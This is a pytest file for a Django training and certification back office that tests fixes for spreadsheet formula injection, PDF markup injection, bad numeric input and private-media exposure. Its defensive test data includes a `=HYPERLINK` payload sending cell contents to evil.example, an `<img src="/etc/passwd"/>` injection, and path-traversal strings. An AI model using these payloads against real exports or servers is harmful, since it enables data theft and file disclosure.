"""Files the back office hands out, and the numbers it reads: findings 8, 11, 14 and 15.

- XLSX exports store text as text: a name or an option that starts with `=` is never a
  formula (`people.spreadsheets`), and the question export round-trips through the importer.
- User text enters PDF markup escaped (`certification.pdf.text_markup`): no broken markup,
  no `<img>` that embeds a server file.
- A year, an id or a page number from a query string or a form is a 400 or the documented
  default, never a 500 (`people.params`).
- Under DEBUG only the public media folders are served (`people.media`).
"""

import datetime
import io
import re
from pathlib import Path
from unittest.mock import MagicMock

from django.conf import settings
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone

import pytest
from openpyxl import load_workbook
from PIL import Image
from reportlab.platypus import Paragraph

from certification.exports import readiness_export_build
from certification.models import ExportJob
from certification.pdf import BODY, text_markup
from certification.services import application_create
from people.factories import OfficerFactory, UnitFactory
from people.media import PUBLIC_MEDIA_FOLDERS, media_path_is_public
from people.models import Role, UnitKind
from people.spreadsheets import sheet_append, xlsx_bytes, xlsx_workbook
from quizzes import exchange
from quizzes import services as quiz_services
from quizzes.factories import QuestionCategoryFactory, QuestionFactory, QuizFactory
from quizzes.models import AttemptQuestion, Layout, QuestionCategory

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A2,"name")'

#: Text a spreadsheet program would read as a formula, were it stored as one.
FORMULA_LIKE = [
    "=A1",
    FORMULA_NAME,
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=A1",
    "\r=A1",
    "#N/A",
]


def _cells(data: bytes) -> list:
    """Every non-empty cell of every sheet of an XLSX file."""
    workbook = load_workbook(io.BytesIO(data))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def _cell_holding(data: bytes, text: str):
    matches = [cell for cell in _cells(data) if cell.value == text]
    assert matches, f"{text!r} is not in the workbook"
    return matches[0]


# --- Finding 8: XLSX text stays text -------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
@pytest.mark.parametrize("value", FORMULA_LIKE)
def test_the_xlsx_writer_stores_formula_like_text_as_text(value, write_only):
    workbook = xlsx_workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    sheet_append(sheet, ["名字", value])
    cell = load_workbook(io.BytesIO(xlsx_bytes(workbook))).worksheets[0]["B1"]
    assert cell.data_type == "s"
    # XML (and so every XLSX reader) reads a carriage return as a line feed.
    assert cell.value == value.replace("\r", "\n")


@pytest.mark.parametrize("write_only", [False, True])
def test_the_xlsx_writer_keeps_numbers_and_dates(write_only):
    from decimal import Decimal

    workbook = xlsx_workbook(write_only=write_only)
    sheet = workbook.create_sheet("s") if write_only else workbook.active
    sheet_append(sheet, [12, 1.5, Decimal("2.5"), datetime.date(2025, 3, 1), None, "12"])
    row = next(load_workbook(io.BytesIO(xlsx_bytes(workbook))).worksheets[0].iter_rows())
    assert [c.value for c in row[:4]] == [12, 1.5, 2.5, datetime.datetime(2025, 3, 1)]
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "d"]
    assert row[5].value == "12" and row[5].data_type == "s"


def test_the_xlsx_writer_replaces_characters_xml_cannot_hold():
    workbook = xlsx_workbook()
    sheet_append(workbook.active, ["王\x01伟"])
    cell = load_workbook(io.BytesIO(xlsx_bytes(workbook))).worksheets[0]["A1"]
    assert cell.value == "王\ufffd伟"


def test_no_product_code_builds_a_workbook_itself():
    """Every export goes through `people.spreadsheets`; tests may build raw workbooks."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for app in ("people", "powers", "quizzes", "courses", "certification", "config"):
        for path in (root / app).rglob("*.py"):
            if path.name == "spreadsheets.py" and path.parent.name == "people":
                continue
            source = path.read_text(encoding="utf-8")
            if re.search(r"\bWorkbook\(|import Workbook\b", source):
                offenders.append(str(path.relative_to(root)))
    assert not offenders, offenders


@pytest.mark.django_db
def test_the_hours_export_keeps_a_formula_like_name_as_text(world, as_role):
    OfficerFactory(unit=world.city["township11"], full_name=FORMULA_NAME)
    client = as_role(world, Role.TOWNSHIP_SUPERVISOR)
    response = client.get(reverse("courses:supervisor_hours"), {"format": "xlsx"})
    assert response.status_code == 200
    cell = _cell_holding(response.content, FORMULA_NAME)
    assert cell.data_type == "s"
    assert not [c.coordinate for c in _cells(response.content) if c.data_type == "f"]


@pytest.mark.django_db
def test_the_readiness_export_keeps_a_formula_like_name_as_text(world):
    OfficerFactory(unit=world.city["township11"], full_name=FORMULA_NAME)
    job = ExportJob.objects.create(
        user=world.users[Role.TOWNSHIP_SUPERVISOR],
        unit=world.city["township11"],
        on=timezone.localdate(),
    )
    assert readiness_export_build(job=job) == "done"
    job.refresh_from_db()
    with job.file.open("rb") as handle:
        data = handle.read()
    cell = _cell_holding(data, FORMULA_NAME)
    assert cell.data_type == "s"
    assert not [c.coordinate for c in _cells(data) if c.data_type == "f"]


@pytest.mark.django_db
def test_question_options_that_look_like_formulas_round_trip_as_text(world):
    category = QuestionCategoryFactory(name="公式样选项")
    options = [("=A1", True), ("+1", False), ("-1", False), ("@SUM(A1)", False)]
    QuestionFactory(category=category, text="=1+1 等于几？", options=options)
    data = exchange.export_xlsx(list(exchange.category_questions(category)), root=category)
    for text in ("=A1", "+1", "-1", "@SUM(A1)", "=1+1 等于几？"):
        cell = _cell_holding(data, text)
        assert cell.data_type == "s", text
    result = exchange.questions_import(data=data, fmt="xlsx", category_path=["公式样选项副本"])
    assert result.ok, [str(p) for p in result.problems]
    copy = QuestionCategory.objects.get(name="公式样选项副本", parent=None)
    question = exchange.category_questions(copy).get()
    assert question.text == "=1+1 等于几？"
    assert [(o.text, o.is_correct) for o in question.options.all()] == options


def test_the_question_template_is_written_as_text():
    data = exchange.xlsx_template()
    assert {cell.data_type for cell in _cells(data)} == {"s"}


# --- Finding 11: user text in PDF markup ----------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["X <b>unclosed", '<img src="/etc/passwd"/>', "A & B", "引号\"'", "<br/>", "&lt;"],
)
def test_text_markup_shows_exactly_its_characters(value):
    assert Paragraph(text_markup(value), BODY).getPlainText() == value


@pytest.fixture
def secret_png(tmp_path) -> Path:
    """An image file on the server: what an `<img src=…>` in user text would embed."""
    path = tmp_path / "secret.png"
    Image.new("RGB", (4, 4), "red").save(path)
    return path


def _embeds_an_image(pdf: bytes) -> bool:
    return re.search(rb"/Subtype\s*/Image", pdf) is not None


@pytest.mark.django_db
@pytest.mark.parametrize(
    "title", ["X <b>unclosed", '<img src="/etc/passwd"/>', '<img src="{png}"/>', "<para>"]
)
def test_an_application_list_titled_with_markup_is_a_pdf_of_that_text(
    world, as_role, secret_png, title
):
    title = title.format(png=secret_png)
    supervisor = world.users[Role.TOWNSHIP_SUPERVISOR]
    application = application_create(unit=world.city["township11"], actor=supervisor, title=title)
    client = as_role(world, Role.TOWNSHIP_SUPERVISOR)
    response = client.get(reverse("certification:application_pdf", args=[application.pk]))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    assert not _embeds_an_image(response.content)


@pytest.mark.django_db
def test_officer_and_unit_names_enter_the_transcript_as_text(world, client, secret_png):
    unit = UnitFactory(name="X镇 <b>unclosed", kind=UnitKind.TOWNSHIP, parent=world.city["county1"])
    officer = OfficerFactory(unit=unit, full_name=f'<img src="{secret_png}"/>')
    client.force_login(officer)
    response = client.get(reverse("certification:transcript_mine"))
    assert response.status_code == 200
    assert response.content.startswith(b"%PDF")
    assert not _embeds_an_image(response.content)


# --- Finding 14: numbers from query strings and forms -----------------------------------------

#: What a probe sends instead of a year, an id or a page number.
BAD_NUMBERS = [
    "0",
    "-1",
    "10000000",
    "-99999999999999999999",
    "abc",
    "²",
    "1e3",
    "99999999999999999999",
]


def _one_per_page_attempt(world):
    quiz = QuizFactory(layout=Layout.ONE_PER_PAGE, questions=[QuestionFactory(), QuestionFactory()])
    return quiz_services.attempt_start(quiz=quiz, user=world.users[Role.OFFICER])


def _application(world):
    supervisor = world.users[Role.TOWNSHIP_SUPERVISOR]
    return application_create(unit=world.city["township11"], actor=supervisor)


#: An id: 400 when it is not one, and a well-formed id ("10000000") that names nothing is
#: a 404 (or, for a list of ids, nothing done).
ID = "id"

#: (what, role, method, url of the world, form data for a value, status for a bad value,
#: status for an empty value). A bad year or id is a 400; an empty year is the default year;
#: a page number is lenient like Django's `Paginator.get_page` (first page).
NUMBER_CASES = [
    (
        "hours year",
        Role.TOWNSHIP_SUPERVISOR,
        "GET",
        lambda w: reverse("courses:supervisor_hours"),
        lambda v: {"year": v},
        400,
        200,
    ),
    (
        "hours export year",
        Role.TOWNSHIP_SUPERVISOR,
        "GET",
        lambda w: reverse("courses:supervisor_hours"),
        lambda v: {"year": v, "format": "xlsx"},
        400,
        200,
    ),
    (
        "annual review year",
        Role.JUSTICE_BUREAU,
        "POST",
        lambda w: reverse("certification:annual_review"),
        lambda v: {"action": "close", "year": v},
        400,
        200,  # last year by default: the confirmation page of who would be suspended
    ),
    (
        "annual review credential",
        Role.JUSTICE_BUREAU,
        "POST",
        lambda w: reverse("certification:annual_review"),
        lambda v: {"action": "reinstate", "credential": v},
        ID,
        400,
    ),
    (
        "application officer",
        Role.TOWNSHIP_SUPERVISOR,
        "POST",
        lambda w: reverse("certification:application_action", args=[_application(w).pk]),
        lambda v: {"action": "add", "officer": v},
        ID,
        400,
    ),
    (
        "application applicant",
        Role.TOWNSHIP_SUPERVISOR,
        "POST",
        lambda w: reverse("certification:application_action", args=[_application(w).pk]),
        lambda v: {"action": "remove", "applicant": v},
        ID,
        400,
    ),
    (
        "lecture roster officer",
        Role.TRAINER,
        "POST",
        lambda w: reverse("courses:lecture_roster", args=[w.lecture.pk]),
        lambda v: {"officer": [v]},
        ID,
        400,
    ),
    (
        "attempt page",
        Role.OFFICER,
        "GET",
        lambda w: reverse("quizzes:attempt", args=[_one_per_page_attempt(w).public_id]),
        lambda v: {"page": v},
        200,
        200,
    ),
    (
        "attempt go to page",
        Role.OFFICER,
        "POST",
        lambda w: reverse("quizzes:attempt_save", args=[_one_per_page_attempt(w).public_id]),
        lambda v: {"go": v},
        302,
        302,
    ),
    (
        "hours page",
        Role.TOWNSHIP_SUPERVISOR,
        "GET",
        lambda w: reverse("courses:supervisor_hours"),
        lambda v: {"page": v},
        200,
        200,
    ),
    (
        "officer list page",
        Role.TOWNSHIP_SUPERVISOR,
        "GET",
        lambda w: reverse("officer_list"),
        lambda v: {"page": v},
        200,
        200,
    ),
    (
        "results page",
        Role.TOWNSHIP_SUPERVISOR,
        "GET",
        lambda w: reverse("quizzes:officer_results"),
        lambda v: {"page": v},
        200,
        200,
    ),
    (
        "marking page",
        Role.TRAINER,
        "GET",
        lambda w: reverse("quizzes:marking_queue"),
        lambda v: {"page": v},
        200,
        200,
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize("value", [*BAD_NUMBERS, ""])
@pytest.mark.parametrize(
    ("role", "method", "url", "data", "bad", "empty"),
    [case[1:] for case in NUMBER_CASES],
    ids=[case[0] for case in NUMBER_CASES],
)
def test_a_bad_number_is_a_400_or_the_default_never_a_500(
    world, as_role, role, method, url, data, bad, empty, value
):
    client = as_role(world, role)
    address = url(world)
    if method == "GET":
        response = client.get(address, data(value))
    else:
        response = client.post(address, data(value))
    if value == "":
        assert response.status_code == empty
    elif bad == ID and value == "10000000":
        assert response.status_code in (302, 404)  # a well-formed id that names nobody
    elif bad == ID:
        assert response.status_code == 400
    else:
        assert response.status_code == bad


@pytest.mark.django_db
@pytest.mark.parametrize("year", ["1900", "2099", " 2024 "])
def test_years_in_range_are_accepted(world, as_role, year):
    client = as_role(world, Role.TOWNSHIP_SUPERVISOR)
    response = client.get(reverse("courses:supervisor_hours"), {"year": year})
    assert response.status_code == 200
    assert response.context["year"] == int(year)


@pytest.mark.django_db
@pytest.mark.parametrize("points", ["NaN", "sNaN", "Infinity", "-Infinity", "abc", "", "1e999999"])
def test_a_mark_that_is_no_number_is_refused_not_a_500(world, client, points):
    slot = world.marker_attempts["township11"].slots.get(question__qtype="essay")
    client.force_login(world.users[Role.TRAINER])
    response = client.post(reverse("quizzes:mark_essay", args=[slot.pk]), {"points": points})
    assert response.status_code == 200
    assert response.context["error"]
    assert AttemptQuestion.objects.get(pk=slot.pk).points is None


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "role"),
    [
        ("certification:application_pdf", Role.TOWNSHIP_SUPERVISOR),
        ("certification:application", Role.TOWNSHIP_SUPERVISOR),
        ("certification:transcript", Role.TOWNSHIP_SUPERVISOR),
        ("quizzes:mark_essay", Role.TRAINER),
    ],
)
def test_an_id_too_large_for_the_database_in_a_path_is_a_404(world, as_role, name, role):
    client = as_role(world, role)
    response = client.get(reverse(name, args=[10**20]))
    assert response.status_code == 404


# --- Finding 15: private media is never public ------------------------------------------------


def _media_file(relative: str) -> str:
    path = Path(settings.MEDIA_ROOT, relative)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"%PDF-1.4 private notes")
    return relative


PRIVATE_PATHS = [
    "reflections/1/观摩心得.pdf",
    "certification/exports/readiness-T-2025-01-01-1.xlsx",
    "documents/handbook.pdf",
    "images/../reflections/1/观摩心得.pdf",
    "original_images/../reflections/1/观摩心得.pdf",
    "./reflections/1/观摩心得.pdf",
    "Reflections/1/观摩心得.pdf",
    "images//../reflections/1/观摩心得.pdf",
    "images\\..\\reflections\\1\\观摩心得.pdf",
    "新文件夹/x.pdf",
    "x.pdf",
]


@pytest.mark.parametrize("path", PRIVATE_PATHS)
def test_only_public_folders_count_as_public_media(path):
    assert not media_path_is_public(path)


@pytest.mark.parametrize("folder", sorted(PUBLIC_MEDIA_FOLDERS))
def test_wagtail_image_folders_are_public_media(folder):
    assert media_path_is_public(f"{folder}/photo.jpg")


@pytest.mark.django_db
@override_settings(DEBUG=True)
def test_under_debug_private_media_is_a_404_and_public_media_is_served(client):
    _media_file("reflections/1/观摩心得.pdf")
    _media_file("certification/exports/readiness.xlsx")
    _media_file("documents/handbook.pdf")
    _media_file("original_images/photo.jpg")
    for private in (
        "reflections/1/观摩心得.pdf",
        "certification/exports/readiness.xlsx",
        "documents/handbook.pdf",
        "images/../reflections/1/观摩心得.pdf",
        "images/%2e%2e/reflections/1/观摩心得.pdf",
    ):
        assert client.get(f"{settings.MEDIA_URL}{private}").status_code == 404, private
    response = client.get(f"{settings.MEDIA_URL}original_images/photo.jpg")
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"%PDF-1.4 private notes"


@pytest.mark.django_db
def test_without_debug_django_serves_no_media_at_all(client):
    _media_file("original_images/photo.jpg")
    assert client.get(f"{settings.MEDIA_URL}original_images/photo.jpg").status_code == 404


def test_every_private_upload_folder_is_refused():
    """Each FileField of the product that is not a Wagtail image is private."""
    from django.apps import apps

    found = []
    for model in apps.get_models():
        if model._meta.app_label not in {"people", "powers", "quizzes", "courses", "certification"}:
            continue
        for field in model._meta.get_fields():
            upload_to = getattr(field, "upload_to", None)
            if upload_to is None:
                continue
            if callable(upload_to):
                path = upload_to(MagicMock(), "file.pdf")
            else:
                path = f"{upload_to.rstrip('/')}/file.pdf"
            found.append(path)
            assert not media_path_is_public(path), path
    assert found, "the product has private uploads (reflections, exports)"
